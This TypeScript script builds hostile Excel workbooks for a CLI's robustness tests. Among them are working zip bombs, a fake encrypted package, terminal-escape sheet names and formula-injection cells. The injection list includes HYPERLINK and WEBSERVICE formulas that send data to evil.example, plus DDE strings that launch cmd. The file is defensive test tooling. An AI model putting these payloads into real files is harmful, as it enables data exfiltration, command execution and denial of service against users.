/**
 * Hostile workbooks for the CLI's robustness tests. None is committed: they are built on demand.
 *   zip-bomb-declared.xlsx   a sheet part that declares (and really inflates to) 300 MiB
 *   zip-bomb-ratio.xlsx      100 MiB of parts from a file of a few hundred KB (over 100:1)
 *   zip-bomb-lying.xlsx      a sheet part that declares 4 KiB but inflates to 300 MiB
 *   oversized-declared.xlsx  <dimension ref="A1:XFD1048576"/> (17 billion cells)
 *   oversized-used.xlsx      no dimension, one cell at XFD1048576
 *   encrypted.xlsx           an OLE compound file holding EncryptionInfo + EncryptedPackage
 *   sheetname-control.xlsx   a sheet named `Bad<ESC>[31mName` (a terminal escape)
 *   sheetname-32k.xlsx       a sheet name of 32,767 characters
 *   cell-40k.xlsx            a cell of 40,000 characters (Excel holds 32,767)
 *   cells-hostile.xlsx       a real indicator table whose texts carry control characters and
 *                            32,767-character strings: must be scored, not refused
 *   formula-injection.xlsx   a real indicator table whose names, evidence, rules and notes start
 *                            with = + - @: must be scored, and nothing of it may become a formula
 * Run: npx tsx scripts/makeHostile.ts [outDir] (default out/hostile).
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { constants, crc32, deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { workbookToBuffer } from '../src/adapters/xlsx/saveWorkbook';
import { writeZip, ZipArchive } from '../src/adapters/xlsx/zip';

const MIB = 1024 * 1024;

/** One part of a hand-made zip: already-compressed data and the sizes it declares. */
interface RawPart {
  readonly name: string;
  readonly data: Buffer;
  readonly method: 0 | 8;
  readonly crc: number;
  readonly declaredSize: number;
}

/** A zip written field by field, so declared sizes can say what the data does not. */
function rawZip(parts: readonly RawPart[]): Buffer {
  const chunks: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const name = Buffer.from(p.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(p.method, 8);
    local.writeUInt16LE(33, 12);
    local.writeUInt32LE(p.crc >>> 0, 14);
    local.writeUInt32LE(p.data.length, 18);
    local.writeUInt32LE(p.declaredSize, 22);
    local.writeUInt16LE(name.length, 26);
    const cd = Buffer.alloc(46);
    cd.writeUInt32LE(0x02014b50, 0);
    cd.writeUInt16LE(20, 4);
    cd.writeUInt16LE(20, 6);
    local.copy(cd, 8, 6, 26);
    cd.writeUInt16LE(name.length, 28);
    cd.writeUInt32LE(offset, 42);
    chunks.push(local, name, p.data);
    central.push(cd, name);
    offset += 30 + name.length + p.data.length;
  }
  const size = central.reduce((n, b) => n + b.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(size, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...chunks, ...central, end]);
}

/**
 * A raw deflate stream that inflates to `mib` MiB of spaces, built without deflating them all:
 * one full-flushed MiB is byte-aligned and self-contained, so copies of it chain into a valid
 * stream, closed by an empty final stored block.
 */
function deflatedSpaces(mib: number): { data: Buffer; crc: number; size: number } {
  const block = Buffer.alloc(MIB, 0x20);
  const kernel = deflateRawSync(block, { finishFlush: constants.Z_FULL_FLUSH });
  let crc = 0;
  for (let i = 0; i < mib; i++) crc = crc32(block, crc);
  const data = Buffer.concat([
    ...Array.from({ length: mib }, () => kernel),
    Buffer.from([0x01, 0x00, 0x00, 0xff, 0xff]),
  ]);
  return { data, crc, size: mib * MIB };
}

/** The parts of a small, valid workbook, deflated, to build the hostile packages around. */
async function baseParts(fill?: (ws: ExcelJS.Worksheet) => void): Promise<{ name: string; data: Buffer }[]> {
  const wb = new ExcelJS.Workbook();
  wb.created = new Date(Date.UTC(2021, 0, 1));
  wb.modified = wb.created;
  const ws = wb.addWorksheet('Sheet1');
  ws.getCell('A1').value = '一级指标';
  fill?.(ws);
  const zip = ZipArchive.open(await workbookToBuffer(wb));
  return zip.names().map((name) => ({ name, data: zip.read(name) ?? Buffer.alloc(0) }));
}

function deflatedPart(name: string, data: Buffer): RawPart {
  return { name, data: deflateRawSync(data), method: 8, crc: crc32(data), declaredSize: data.length };
}

async function bomb(kind: 'declared' | 'ratio' | 'lying'): Promise<Buffer> {
  const parts = (await baseParts()).map((p) => deflatedPart(p.name, p.data));
  const mib = kind === 'ratio' ? 100 : 300;
  const spaces = deflatedSpaces(mib);
  const sheet = parts.findIndex((p) => p.name === 'xl/worksheets/sheet1.xml');
  parts[sheet] = {
    name: 'xl/worksheets/sheet1.xml',
    data: spaces.data,
    method: 8,
    crc: spaces.crc,
    declaredSize: kind === 'lying' ? 4096 : spaces.size,
  };
  return rawZip(parts);
}

/** Rewrites parts of a valid workbook's package with `edit` (XML text in, XML text out). */
async function patched(
  edits: Record<string, (xml: string) => string>,
  fill?: (ws: ExcelJS.Worksheet) => void,
): Promise<Buffer> {
  const parts = await baseParts(fill);
  return writeZip(
    parts.map((p) => {
      const edit = edits[p.name];
      return edit ? { name: p.name, data: Buffer.from(edit(p.data.toString('utf8')), 'utf8') } : p;
    }),
  );
}

/**
 * A minimal OLE2 compound file (version 3, 512-byte sectors) with the two streams of an
 * ECMA-376 encrypted package. Both streams are 4 KiB or more, so no mini stream is needed.
 */
function encryptedPackage(): Buffer {
  const SECTOR = 512;
  const FREE = 0xffffffff;
  const END = 0xfffffffe;
  const FATSECT = 0xfffffffd;
  const info = Buffer.alloc(4096);
  info.writeUInt16LE(4, 0); // agile encryption, version 4.4
  info.writeUInt16LE(4, 2);
  info.writeUInt32LE(0x40, 4);
  info.write(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>',
    8,
    'utf8',
  );
  const pkg = Buffer.alloc(8192, 0xa5);
  pkg.writeUInt32LE(123456, 0); // the decrypted size, then ciphertext
  const infoStart = 2;
  const pkgStart = infoStart + info.length / SECTOR;
  const sectors = pkgStart + pkg.length / SECTOR;
  const header = Buffer.alloc(SECTOR);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x003e, 24);
  header.writeUInt16LE(3, 26);
  header.writeUInt16LE(0xfffe, 28);
  header.writeUInt16LE(9, 30);
  header.writeUInt16LE(6, 32);
  header.writeUInt32LE(1, 44); // FAT sectors
  header.writeUInt32LE(1, 48); // first directory sector
  header.writeUInt32LE(4096, 56); // mini stream cutoff
  header.writeUInt32LE(END, 60);
  header.writeUInt32LE(END, 68);
  header.writeUInt32LE(0, 76); // DIFAT[0]: the FAT is sector 0
  for (let i = 1; i < 109; i++) header.writeUInt32LE(FREE, 76 + i * 4);
  const fat = Buffer.alloc(SECTOR, 0xff);
  fat.writeUInt32LE(FATSECT, 0);
  fat.writeUInt32LE(END, 4);
  for (let s = infoStart; s < sectors; s++) {
    const last = s === pkgStart - 1 || s === sectors - 1;
    fat.writeUInt32LE(last ? END : s + 1, s * 4);
  }
  const dir = Buffer.alloc(SECTOR);
  const entry = (
    i: number,
    name: string,
    type: number,
    right: number,
    child: number,
    start: number,
    size: number,
  ): void => {
    const at = i * 128;
    dir.write(name, at, 'utf16le');
    dir.writeUInt16LE((name.length + 1) * 2, at + 64);
    dir.writeUInt8(type, at + 66);
    dir.writeUInt8(1, at + 67);
    dir.writeUInt32LE(FREE, at + 68);
    dir.writeUInt32LE(right, at + 72);
    dir.writeUInt32LE(child, at + 76);
    dir.writeUInt32LE(start, at + 116);
    dir.writeUInt32LE(size, at + 120);
  };
  entry(0, 'Root Entry', 5, FREE, 1, END, 0);
  entry(1, 'EncryptionInfo', 2, 2, FREE, infoStart, info.length);
  entry(2, 'EncryptedPackage', 2, FREE, FREE, pkgStart, pkg.length);
  for (let i = 3; i < 4; i++) {
    dir.writeUInt32LE(FREE, i * 128 + 68);
    dir.writeUInt32LE(FREE, i * 128 + 72);
    dir.writeUInt32LE(FREE, i * 128 + 76);
  }
  return Buffer.concat([header, fat, dir, info, pkg]);
}

const HEADER = [
  '一级指标',
  '二级指标',
  '三级指标',
  '年度指标值',
  '实际完成值',
  '分值',
  '得分',
  '评分标准',
  '佐证材料',
  '偏差原因分析及改进措施',
];

/** An indicator table (header in row 1) with the given rows and a 合计 row. */
function indicatorWorkbook(
  sheetName: string,
  rows: readonly (readonly (string | number | null)[])[],
): ExcelJS.Workbook {
  const wb = new ExcelJS.Workbook();
  wb.created = new Date(Date.UTC(2021, 0, 1));
  wb.modified = wb.created;
  const ws = wb.addWorksheet(sheetName);
  ws.addRow(HEADER);
  for (const r of rows) ws.addRow([...r]);
  ws.addRow(['合计']);
  return wb;
}

/** Texts a spreadsheet would run as formulas if they were ever written as formulas. */
export const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
  '=WEBSERVICE("http://evil.example")',
];

function formulaInjection(): ExcelJS.Workbook {
  const [a, b, c, d, e, f] = INJECTIONS as [string, string, string, string, string, string];
  return indicatorWorkbook('自评表', [
    [a, b, c, d, e, 10, 12, f, a, b],
    [b, c, d, '≥95%', '90%', 10, 9, '每低1个百分点扣1分', c, null],
    [c, d, e, '≥95%', '80%', 10, 10, d, e, f],
    [d, e, f, '100%', e, 20, 30, a, '=见附件', null],
    [e, f, a, b, c, 50, 'x', e, f, d],
  ]);
}

function hostileCells(): ExcelJS.Workbook {
  const long = (unit: string): string => unit.repeat(Math.ceil(32_767 / unit.length)).slice(0, 32_767);
  const ctl = '控制\u0007字符\u001b[31m红\u0000空';
  return indicatorWorkbook('自评表', [
    ['产出指标', '数量指标', ctl, '≥95%', '96%', 10, 10, '达标记满分，否则不得分。', ctl, null],
    ['产出指标', '质量指标', long('名'), long('≥'), long('1,'), 10, 9, long('一'), long('达'), long('偏')],
    [
      '效益指标',
      ctl,
      '年度任务完成率',
      long('9'),
      long('万'),
      10,
      8,
      long('每低5个百分点扣1分，'),
      long('《'),
      ctl,
    ],
    [long('效'), long('社'), long('满'), '100%', '100%', 70, 70, long('1,'), long('≥'), null],
  ]);
}

/** Every hostile workbook, by file name. */
export async function buildHostileWorkbooks(): Promise<Record<string, Buffer>> {
  const out: Record<string, Buffer> = {
    'zip-bomb-declared.xlsx': await bomb('declared'),
    'zip-bomb-ratio.xlsx': await bomb('ratio'),
    'zip-bomb-lying.xlsx': await bomb('lying'),
    'oversized-declared.xlsx': await patched({
      'xl/worksheets/sheet1.xml': (x) =>
        x.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>'),
    }),
    'oversized-used.xlsx': await patched(
      { 'xl/worksheets/sheet1.xml': (x) => x.replace(/<dimension ref="[^"]*"\/>/, '') },
      (ws) => {
        ws.getCell('XFD1048576').value = 1;
      },
    ),
    'encrypted.xlsx': encryptedPackage(),
    'sheetname-control.xlsx': await patched({
      'xl/workbook.xml': (x) => x.replace('name="Sheet1"', 'name="Bad&#x1b;[31mName"'),
    }),
    'sheetname-32k.xlsx': await patched({
      'xl/workbook.xml': (x) => x.replace('name="Sheet1"', `name="${'表'.repeat(32_767)}"`),
    }),
    'cell-40k.xlsx': await patched({}, (ws) => {
      ws.getCell('B2').value = '长'.repeat(40_000);
    }),
    'cells-hostile.xlsx': await workbookToBuffer(hostileCells()),
    'formula-injection.xlsx': await workbookToBuffer(formulaInjection()),
  };
  return out;
}

/** Writes every hostile workbook into `dir`; returns their paths by file name. */
export async function writeHostileWorkbooks(dir: string): Promise<Record<string, string>> {
  mkdirSync(dir, { recursive: true });
  const paths: Record<string, string> = {};
  for (const [name, bytes] of Object.entries(await buildHostileWorkbooks())) {
    paths[name] = join(dir, name);
    writeFileSync(paths[name], bytes);
  }
  return paths;
}

if (require.main === module) {
  const dir = resolve(process.argv[2] ?? resolve(__dirname, '../out/hostile'));
  writeHostileWorkbooks(dir).then(
    (paths) => Object.values(paths).forEach((p) => console.log(`wrote ${p}`)),
    (e: unknown) => {
      console.error(e instanceof Error ? e.message : String(e));
      process.exitCode = 1;
    },
  );
}
